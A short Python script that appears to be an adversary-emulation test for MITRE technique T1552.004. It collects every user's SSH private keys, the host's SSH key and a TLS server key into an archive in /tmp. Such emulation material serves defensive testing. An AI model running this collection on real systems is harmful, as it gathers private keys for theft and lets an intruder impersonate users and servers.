#!/usr/bin/env python3
# title: Python packs the keys of all users
# technique: T1552.004
# needs: python3

import glob, tarfile
with tarfile.open("/tmp/k.tgz", "w:gz") as archive:
    for path in glob.glob("/home/*/.ssh/id_*") + ["/etc/ssh/ssh_host_ed25519_key", "/etc/ssl/private/server.key"]:
        archive.add(path)
